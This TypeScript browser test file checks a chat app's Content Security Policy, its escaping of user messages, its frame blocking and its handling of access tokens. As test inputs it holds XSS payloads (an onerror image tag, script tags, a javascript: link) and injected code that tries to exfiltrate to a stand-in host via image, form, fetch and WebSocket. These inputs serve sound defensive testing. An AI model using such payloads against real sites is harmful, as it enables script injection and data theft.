import { access, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { chromium, type Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { launchOptions } from '../../scripts/services/chromium.ts'
import { selfSigned } from '../testkit/certificate.ts'
import { inMs, scratch, sign, startNode, tokenAccess } from '../testkit/node.ts'
import { Probe } from '../testkit/probe.ts'

t.setTimeout(120_000)
await access(join(import.meta.dirname, '../../client/dist/index.html'))
const browser = await chromium.launch(launchOptions())
t.teardown(() => browser.close())

interface Seen {
  readonly page: Page
  /** What the page's policy kept from happening, by directive. */
  violations(): Promise<string[]>
  /** Errors and warnings of the browser. */
  readonly complaints: string[]
  /** Every address that was asked for. */
  readonly addresses: string[]
}

/** A browser of its own that notes what it is kept from, what it complains of, and what it asks for. */
const watch = async (t: Test): Promise<Seen> => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true })
  t.teardown(() => context.close())
  const page = await context.newPage()
  const complaints: string[] = []
  const addresses: string[] = []
  page.on('console', message => {
    if (['error', 'warning'].includes(message.type())) complaints.push(message.text())
  })
  page.on('pageerror', error => complaints.push(error.message))
  page.on('request', request => addresses.push(request.url(), ...Object.values(request.headers())))
  page.on('websocket', socket => addresses.push(socket.url()))
  await page.addInitScript(`
    window.kept = []
    addEventListener('securitypolicyviolation', event => window.kept.push(event.effectiveDirective))`)
  return { page, complaints, addresses, violations: () => page.evaluate('window.kept') }
}

const enter = async (page: Page, who: string): Promise<void> => {
  await page.getByRole('textbox', { name: 'Your name' }).fill(who)
  await page.keyboard.press('Enter')
  await page.getByRole('log').waitFor()
}
const write = async (page: Page, text: string): Promise<void> => {
  const box = page.getByRole('textbox', { name: 'Message to general' })
  await box.fill(text)
  await box.press('Enter')
}
const sees = (page: Page, text: string): Promise<void> =>
  page.getByRole('log').getByText(text, { exact: true }).waitFor()

t.test('the page does all it does within its policy, over HTTP and HTTPS', async t => {
  const folder = await scratch(t)
  const { cert, key } = selfSigned()
  const files = { TLS_CERT: join(folder, 'cert.pem'), TLS_KEY: join(folder, 'key.pem') }
  await writeFile(files.TLS_CERT, cert)
  await writeFile(files.TLS_KEY, key)
  for (const [env, ca] of [
    [{}, {}],
    [files, { ca: cert }],
  ] as const) {
    const node = await startNode(t, env)
    const { page, violations, complaints } = await watch(t)
    await page.goto(`${node.url}#/room/general`)
    await enter(page, 'ann')
    await write(page, 'hello')
    await sees(page, 'hello')
    const bob = await Probe.connect(t, 'tcp', { ...node, ...ca }, { login: 'bob' })
    const hostile = '<img src=x onerror="window.hit=1"><script>window.hit=1</script>'
    await bob.request('SEND', { destination: '/topic/general' }, hostile)
    await bob.request('SEND', { destination: '/topic/general' }, 'see https://example.org/a and javascript:alert(1)')
    await sees(page, hostile)
    t.equal(
      await page.getByRole('link', { name: 'https://example.org/a' }).getAttribute('rel'),
      'noopener noreferrer nofollow ugc',
    )
    t.equal(await page.getByRole('link', { name: /javascript/ }).count(), 0)
    t.equal(await page.evaluate('window.hit'), undefined, 'what people write is text')
    t.same(await violations(), [])
    t.same(complaints, [])
  }
})

t.test('the policy keeps a page from what a mistake of ours would let in', async t => {
  const node = await startNode(t)
  const { page, violations } = await watch(t)
  await page.goto(node.url)
  await page.evaluate(`(async () => {
    const add = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set))
    const attempt = work => { try { work() } catch {} }
    add('img', { src: 'https://elsewhere.invalid/steal?secret' })
    add('form', { action: 'https://elsewhere.invalid/', method: 'post' }).submit()
    add('style', { textContent: 'body { color: red }' })
    attempt(() => { document.body.innerHTML += '<p>markup</p>' })
    attempt(() => add('script', { textContent: 'window.hit = 1' }))
    attempt(() => setTimeout('window.hit = 1'))
    await fetch('https://elsewhere.invalid/').catch(() => {})
    attempt(() => new WebSocket('wss://elsewhere.invalid/'))
  })()`)
  const directives = ['img-src', 'form-action', 'style-src-elem', 'require-trusted-types-for', 'connect-src']
  let kept: string[] = []
  while (!directives.every(directive => kept.includes(directive))) kept = await violations()
  t.equal(await page.evaluate('window.hit'), undefined)
})

t.test('no other page can show it in a frame', async t => {
  const node = await startNode(t)
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${node.url}"></iframe>`)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.close())
  const { page, complaints } = await watch(t)
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
  t.ok(complaints.some(text => /frame-ancestors/.test(text)))
  t.equal(await page.frameLocator('iframe').locator('#root').count(), 0)
})

t.test('a token is in no address, no log line, and nothing that outlives the tab', async t => {
  const node = await startNode(t, { ...tokenAccess })
  const token = await sign({ sub: 'ann', exp: inMs(600_000) })
  const { page, addresses } = await watch(t)
  await page.goto(`${node.url}#/room/general`)
  await page.getByRole('textbox', { name: 'Your name' }).fill('ann')
  await page.keyboard.press('Enter')
  const box = page.getByRole('textbox', { name: 'Access token' })
  await box.fill(token)
  await box.press('Enter')
  await page.getByRole('log').waitFor()
  await write(page, 'hello')
  await sees(page, 'hello')
  t.notOk(addresses.some(address => address.includes(token)))
  t.notOk(page.url().includes(token))
  t.notOk(node.lines.some(line => line.includes(token) || line.includes(token.split('.')[2]!)))
  t.notOk(String(await page.evaluate('JSON.stringify({ ...localStorage }) + document.cookie')).includes(token))
})
